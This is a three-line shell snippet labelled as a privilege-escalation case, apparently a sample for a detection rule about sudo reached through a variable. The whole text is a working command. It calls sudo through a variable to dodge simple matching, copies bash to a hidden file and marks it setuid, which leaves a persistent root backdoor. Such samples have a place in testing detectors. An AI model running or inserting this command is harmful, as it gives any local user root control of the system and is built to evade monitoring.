# privilege-escalation: sudo reached through a variable holding its path
s=/usr/bin/sudo
"$s" -n true && "$s" cp /bin/bash /usr/local/bin/.sh && "$s" chmod +s /usr/local/bin/.sh
